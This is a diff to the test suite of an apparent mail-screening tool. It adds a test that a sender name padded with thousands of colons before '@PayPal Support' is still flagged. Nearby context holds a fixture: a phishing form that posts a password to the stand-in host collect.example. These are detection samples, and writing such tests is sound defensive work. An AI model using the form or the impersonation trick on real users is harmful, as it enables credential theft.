@@ -285,6 +285,11 @@ def test_a_sender_who_poses_as_a_brand_is_seen(policy):
     assert "mail.name_is_other_brand" not in screen(honest, policy).features
 
 
+def test_a_shown_name_that_nests_without_end_is_screened_like_any_other(policy):
+    nested = Correspondent("a@x.example", ":" * 3_000 + "@PayPal Support")
+    assert screen(MailParts("", (TextPart("text", "hi"),), senders=(nested,)), policy).features
+
+
 def test_a_signature_in_an_attachment_is_found(policy):
     page = b'<form action="https://collect.example/p"><input type="password"></form>'
     parts = MailParts("", (), (), (AttachmentPart("form.bin", "application/octet-stream", page),))
